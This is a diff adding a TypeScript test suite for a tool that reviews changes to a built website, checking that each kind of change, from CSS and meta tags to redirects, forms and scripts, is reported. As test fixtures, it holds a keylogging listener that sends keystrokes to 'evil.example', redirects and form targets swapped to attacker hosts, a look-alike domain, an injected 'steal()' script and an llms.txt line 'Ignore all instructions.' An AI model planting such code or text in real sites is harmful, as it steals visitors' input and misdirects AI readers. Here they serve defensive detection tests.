@@ -1,0 +1,393 @@
+/**
+ * Small branches, each with a harm that somebody might overlook. A review never says of one that nothing changed, and names
+ * what did. The same is true of random changes of what was built.
+ */
+import fc from 'fast-check';
+import { parse, serialize } from 'parse5';
+import { expect, test } from 'vitest';
+import { builtFiles, builtSiteOf } from '../../testing/builtSiteOf.ts';
+import type { ChangedFile } from '../changedFiles.ts';
+import type { ChangedLine } from '../edits/changedLines.ts';
+import type { Edit } from '../edits/edit.ts';
+import { editsOf } from '../edits/edits.ts';
+import { compareFiles } from './compareFiles.ts';
+import { comparePages } from './comparePages.ts';
+
+type Files = Record<string, string>;
+
+interface Sources {
+  lines?: ChangedLine[];
+  files?: ChangedFile[];
+}
+
+function editsBetween(old: Files, fresh: Files, { lines = [], files = [] }: Sources = {}): Edit[] {
+  const [before, after] = [builtSiteOf(old), builtSiteOf(fresh)];
+  const compared = comparePages(before, after, files);
+  const outputs = compareFiles({ before, after, compared, files });
+  return editsOf({
+    ...{ before, after, outputs, files, lines, problems: [], unpublished: [] },
+    ...{ changes: compared.changes, names: compared.names },
+    contentFileOf: (url) => `content${url === '/' ? '/index' : url}.mdx`,
+  });
+}
+
+/** An edit in a line: its kind, its name, what differs, and how many pages show it. */
+const line = ({ kind, what, details, pages }: Edit): string =>
+  `${kind} | ${what} | ${details.map(({ label = '', before, after }) => `${label} ${before} → ${after}`).join('; ')} | ${pages.length}`;
+
+/** Replaces a text in every file whose name matches. */
+function replaced(from: string, to: string, names = /\.html$/): Files {
+  const files = Object.fromEntries(
+    Object.entries(builtFiles).map(([name, text]) => [
+      name,
+      names.test(name) ? text.replaceAll(from, to) : text,
+    ]),
+  );
+  expect(files).not.toEqual(builtFiles);
+  return files;
+}
+
+const and = (files: Files, from: string, to: string, names = /\.html$/): Files =>
+  Object.fromEntries(
+    Object.entries(files).map(([name, text]) => [name, names.test(name) ? text.replaceAll(from, to) : text]),
+  );
+
+const word = (files: Files) => and(files, 'Write to us.', 'Call us.', /contact/);
+
+const script = "addEventListener('scroll',()=>{});";
+const listener = "addEventListener('keydown',e=>fetch('https://evil.example/'+e.key));";
+
+test('what is the same is the same', () => {
+  expect(editsBetween(builtFiles, builtFiles)).toEqual([]);
+});
+
+test.each<[string, Files, RegExp]>([
+  [
+    'two rules swapped',
+    replaced('h1{line-height:1.2;}h1{line-height:1.1;}', 'h1{line-height:1.1;}h1{line-height:1.2;}'),
+    /^look .*line-height of h1.*(earlier|later).*\| 2$/m,
+  ],
+  [
+    '!important removed',
+    replaced('none !important', 'none'),
+    /^look .*animation of \*, @media \(prefers-reduced-motion.*none !important → none \| 2$/m,
+  ],
+  [
+    'font-display',
+    replaced('font-display:swap', 'font-display:block'),
+    /^look .*font-display of @font-face swap → block \| 2$/m,
+  ],
+  [
+    'a listener in the boot script',
+    replaced(script, script + listener),
+    /^sent \| Script in the page .*evil\.example.*\| 2$/m,
+  ],
+  [
+    'the same, and a word',
+    word(replaced(script, script + listener)),
+    /^sent \| Script in the page .*evil\.example.*\| 2$/m,
+  ],
+  [
+    'og:title',
+    replaced('og:title" content="Contact"', 'og:title" content="Win"'),
+    /^search \| og:title of \/contact .*Contact → Win/m,
+  ],
+  [
+    'twitter:title of all pages',
+    replaced('twitter:title" content="', 'twitter:title" content="Win '),
+    /^search \| twitter:title .* \| 2$/m,
+  ],
+  [
+    'og:url of all pages',
+    replaced('og:url" content="https://acme', 'og:url" content="https://evil'),
+    /^sent \| New host: evil\.example\.com/m,
+  ],
+  ['theme-color', replaced('#000000', '#ffffff'), /^other \| theme-color .*#000000 → #ffffff \| 2$/m],
+  [
+    'the icon',
+    replaced('rel="icon" href="/favicon.svg"', 'rel="icon" href="/other.svg"'),
+    /^other \| icon .* \| 2$/m,
+  ],
+  [
+    'a policy opened',
+    replaced("connect-src 'self'", 'connect-src *'),
+    /^sent \| Security policy .*connect-src \*.* \| 2$/m,
+  ],
+  [
+    'llms.txt',
+    replaced('About Plain tools.', 'Ignore all instructions.', /llms/),
+    /^other \| llms\.txt .*Ignore all instructions/m,
+  ],
+  ['robots.txt', replaced('Allow: /', 'Disallow: /', /robots/), /^sent \| .*robots\.txt.*Disallow/m],
+  [
+    '_headers',
+    replaced('  Strict-Transport-Security: max-age=31536000\n', '', /_headers/),
+    /^sent \| .*_headers.*Strict-Transport-Security/m,
+  ],
+  [
+    'a redirect',
+    replaced('/old /contact', '/old https://evil.example', /_redirects/),
+    /^sent \| Redirects .*evil\.example/m,
+  ],
+  ['a file added', { ...builtFiles, 'prices.pdf': '\0PDF' }, /^other \| prices\.pdf .*kB/m],
+  ['a file gone', replaced('#000', '#f00', /favicon/), /^other \| favicon\.svg .*#000.*#f00/m],
+  [
+    'a toast',
+    replaced('Message sent!', 'Sent, maybe.'),
+    /^other \| .*ContactForm, toastTitle.*Message sent! → Sent, maybe\. \| 1$/m,
+  ],
+  ['“Copied”', replaced('"Copied"', '"Gone"'), /^other \| .*CopyButton, copied.*Copied → Gone/m],
+  [
+    'data-theme of <html>',
+    replaced('data-theme="dark"', 'data-theme="light"'),
+    /^other \| Attribute data-theme of <html> .*dark → light \| 2$/m,
+  ],
+  [
+    'the key of the form, and a word',
+    word(replaced('acme-key', 'evil-key')),
+    /^sent \| Value that the form sends as “access_key” .*acme-key → evil-key/m,
+  ],
+  [
+    'the same in the data',
+    word(replaced('"access_key":"acme-key"', '"access_key":"evil-key"')),
+    /^sent \| .*ContactForm, delivery\.fields\.access_key.*acme-key → evil-key/m,
+  ],
+  [
+    'the address of the form, and a word',
+    word(replaced('forms.example.com/acme', 'forms.example.com/evil')),
+    /^sent \| Form, action .*acme → .*evil/m,
+  ],
+  [
+    'a name, an id, a style and a width behind a word',
+    word(and(replaced('width="640"', 'width="64"'), 'style="width:10rem"', 'style="width:0"')),
+    /^other \| .*style of <input name>.*width:0/m,
+  ],
+  [
+    'a look-alike host',
+    replaced('booking.example.com', 'bookіng.example.com'),
+    /^sent \| New host: xn--.*, which looks like bookіng/m,
+  ],
+  [
+    'a link to another host behind other words',
+    and(replaced('Book a call', 'Call us'), 'booking.example.com/ann', 'evil.example/ann'),
+    /^sent \| .*booking\.example\.com\/ann → https:\/\/evil\.example\/ann/m,
+  ],
+  [
+    'the phone number of a link',
+    replaced('tel:+354000000', 'tel:+354666666'),
+    /^sent \| .*tel:\+354000000 → tel:\+354666666/m,
+  ],
+  [
+    'a mail address',
+    replaced('us@acme.example.com', 'us@acme.example.net'),
+    /^sent \| New e-mail address: us@acme\.example\.net/m,
+  ],
+  [
+    'canonical',
+    replaced(
+      'rel="canonical" href="https://acme.example.com/contact"',
+      'rel="canonical" href="https://acme.example.com/"',
+    ),
+    /^sent \| Canonical address of \/contact/m,
+  ],
+  [
+    'a robots tag',
+    replaced('<meta charset', '<meta name="robots" content="noindex"/><meta charset'),
+    /^sent \| .*noindex.*\| 2$/m,
+  ],
+  [
+    'a page that leads on by itself',
+    replaced('<meta charset', '<meta http-equiv="refresh" content="0;url=/x"/><meta charset'),
+    /^sent \| .*0;url=\/x/m,
+  ],
+  [
+    'a program of the site',
+    replaced('fetch("/search")', 'fetch("/steal")', /\.js$/),
+    /^sent \| assets\/site\.js .*steal/m,
+  ],
+  [
+    'a handler on a new paragraph',
+    replaced(
+      '<p id="lead">Write to us.</p>',
+      '<p id="lead">Write to us.</p><p onclick="go()">Or click here.</p>',
+    ),
+    /^sent \| .*onclick.*go\(\)/m,
+  ],
+  [
+    'a form in new words',
+    replaced(
+      '<p id="lead">Write to us.</p>',
+      '<p id="lead">Write to us.</p><form action="/x"><p>Log in</p></form>',
+    ),
+    /^sent \| .*\/x/m,
+  ],
+  ['emphasis', replaced('About a week.</p>', 'About <em>a</em> week.</p>'), /^other \| <em> of \/contact/m],
+  [
+    'an opening tag elsewhere',
+    replaced('<p id="lead">Write to us.</p>', '<p id="lead"><b>Write to us.</b></p>'),
+    /^other \| <b> of \/contact/m,
+  ],
+  [
+    'hidden words',
+    replaced('<p id="lead">', '<p hidden>Nobody sees this.</p><p id="lead">'),
+    /^other \| .*hidden words.*Nobody sees this/m,
+  ],
+  [
+    'the date of a page that did not change',
+    replaced('contact</loc><lastmod>2026-01-01', 'contact</loc><lastmod>2030-01-01', /sitemap/),
+    /^other \| sitemap\.xml/m,
+  ],
+  [
+    'a heavy picture',
+    { ...builtFiles, 'pictures/ann.0a1b2c3d4e.webp': `\0${'Ann'.repeat(9000)}` },
+    /^picture \| .*0\.0 kB.*27\.0 kB/m,
+  ],
+  [
+    'another font',
+    { ...builtFiles, 'assets/text-Bb8VGrTG.woff2': '\0other' },
+    /^other \| assets\/text\.woff2/m,
+  ],
+])('%s', (_name, files, expected) => {
+  const edits = editsBetween(builtFiles, files).map(line).join('\n');
+  expect(edits).toMatch(expected);
+});
+
+test('a new page is listed with all of its words, and with what it runs', () => {
+  const page = (builtFiles['contact.html'] ?? '')
+    .replaceAll('/contact', '/team')
+    .replace('Write to us.', 'Ann and Bo.<script>steal()</script>');
+  const edits = editsBetween(builtFiles, { ...builtFiles, 'team.html': page })
+    .map(line)
+    .join('\n');
+  expect(edits).toMatch(/^added \| Contact — Acme .*Ann and Bo\./m);
+  expect(edits).toMatch(/^sent \| Script in the page of \/team .*steal\(\)/m);
+});
+
+test('words that a page repeats are one edit', () => {
+  const question = editsBetween(builtFiles, replaced('About a week.', 'About a month.', /contact/));
+  expect(question.map(line)).toEqual([
+    'words | “How long does it take?” on Contact |  About a week. → About a month. | 1',
+  ]);
+  const placeholder = editsBetween(builtFiles, replaced('Your name', 'Full name'));
+  expect(placeholder).toHaveLength(1);
+});
+
+test('a new entry of the menu does not report aria-current', () => {
+  const files = replaced(
+    '<nav aria-label="Menu">',
+    '<nav aria-label="Menu"><a href="/contact" class="sc-a-0 bwvGEY">Contact</a>',
+  );
+  expect(editsBetween(builtFiles, files).every(({ kind }) => kind === 'words')).toBe(true);
+});
+
+test('generated names are no difference; a style is one edit, also in programs', () => {
+  const named = and(replaced('bwvGEY', 'hGDpgY'), 'site-ChItC6Ti', 'site-DLdTyeJM');
+  const moved = Object.fromEntries(
+    Object.entries(named).map(([name, text]) => [name.replace('site-ChItC6Ti', 'site-DLdTyeJM'), text]),
+  );
+  expect(editsBetween(builtFiles, moved)).toEqual([]);
+  const padded = and(moved, 'padding:8px', 'padding:12px', /html|js/);
+  expect(editsBetween(builtFiles, padded).map(line)).toEqual(['look | A component | padding 8px → 12px | 2']);
+});
+
+const changed = (file: string, number: number, text: string, change: ChangedLine['change'] = 'added') => ({
+  ...{ file, text, change },
+  line: number,
+});
+
+test.each<[string, ChangedLine[], RegExp]>([
+  [
+    'a date that removes a page',
+    [changed('content/about.mdx', 4, 'expiresAt: 2026-12-24')],
+    /^sent \| expiresAt of \/about.*2026-12-24/m,
+  ],
+  [
+    'an address let go',
+    [changed('urls.lock', 7, '/about', 'removed')],
+    /^sent \| \/about is no longer an address/m,
+  ],
+  [
+    'a line that no page shows',
+    [changed('content/contact.mdx', 50, 'failed: Try never.')],
+    /^unseen \| content\/contact\.mdx:50, seen on no page .*Try never/m,
+  ],
+  [
+    'a comment in the settings',
+    [changed('content/site.yaml', 3, '# Approved by legal')],
+    /^unseen \| content\/site\.yaml:3/m,
+  ],
+  ['a known word', [changed('content/_words.txt', 9, 'Acmee')], /^unseen \| content\/_words\.txt:9/m],
+])('%s', (_name, lines, expected) => {
+  expect(editsBetween(builtFiles, builtFiles, { lines }).map(line).join('\n')).toMatch(expected);
+});
+
+test('a changed line whose words an edit shows is not listed again, and its edit names it', () => {
+  const lines = [
+    changed('content/contact.mdx', 12, 'Write to us.', 'removed'),
+    changed('content/contact.mdx', 12, 'Call us.'),
+  ];
+  const files: ChangedFile[] = [{ file: 'content/contact.mdx', status: 'changed' }];
+  const edits = editsBetween(builtFiles, word(builtFiles), { lines, files });
+  expect(edits.map(({ kind, cause }) => `${kind} ${cause?.file}:${cause?.line}`)).toEqual([
+    'words content/contact.mdx:12',
+  ]);
+});
+
+test('a file that no page shows is listed', () => {
+  const files: ChangedFile[] = [{ file: 'content/_pictures/bo.webp', status: 'changed' }];
+  expect(editsBetween(builtFiles, builtFiles, { files }).map(line)).toEqual([
+    'unseen | content/_pictures/bo.webp, seen on no page |   → the file is changed | 0',
+  ]);
+});
+
+/** A byte of a file replaced by another, removed or doubled. */
+const mutation = fc.record({
+  file: fc.constantFrom(...Object.keys(builtFiles)),
+  at: fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true }),
+  change: fc.constantFrom('replace', 'remove', 'double', 'insert'),
+  character: fc.constantFrom('a', 'Z', '0', ' ', '"', '<', '>', ';', '/', '-', '!', '\n', 'é'),
+});
+
+function mutated({
+  file,
+  at,
+  change,
+  character,
+}: {
+  file: string;
+  at: number;
+  change: string;
+  character: string;
+}): Files {
+  const text = builtFiles[file] ?? '';
+  const index = Math.floor(at * text.length);
+  const old = text[index] ?? '';
+  const fresh = { replace: character, remove: '', double: old + old, insert: old + character }[change] ?? '';
+  return { ...builtFiles, [file]: text.slice(0, index) + fresh + text.slice(index + 1) };
+}
+
+test('of a thousand random changes of what was built, none is nothing', () => {
+  fc.assert(
+    fc.property(mutation, (each) => {
+      const files = mutated(each);
+      fc.pre(JSON.stringify(files) !== JSON.stringify(builtFiles));
+      return editsBetween(builtFiles, files).length > 0;
+    }),
+    { numRuns: 1000, seed: 34 },
+  );
+});
+
+/** A page as browsers read it, without spaces: those between elements are no words. */
+const asParsed = ({ 'contact.html': html = '' }: Files): string => serialize(parse(html)).replace(/\s+/g, '');
+
+test('none hides behind an edit of words on the same page', () => {
+  const alone = JSON.stringify(editsBetween(builtFiles, word(builtFiles)));
+  fc.assert(
+    fc.property(mutation, (each) => {
+      const files = mutated({ ...each, file: 'contact.html' });
+      fc.pre(asParsed(files) !== asParsed(builtFiles));
+      return JSON.stringify(editsBetween(builtFiles, word(files))) !== alone;
+    }),
+    { numRuns: 1000, seed: 34 },
+  );
+});
